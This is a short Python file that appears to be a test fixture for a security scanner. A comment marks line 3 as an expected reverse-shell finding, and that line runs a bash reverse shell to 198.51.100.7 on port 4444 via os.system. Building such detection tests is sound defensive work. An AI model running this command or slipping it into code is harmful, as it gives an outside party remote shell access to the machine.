# expect: 3 reverse-shell-command
import os
os.system("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")
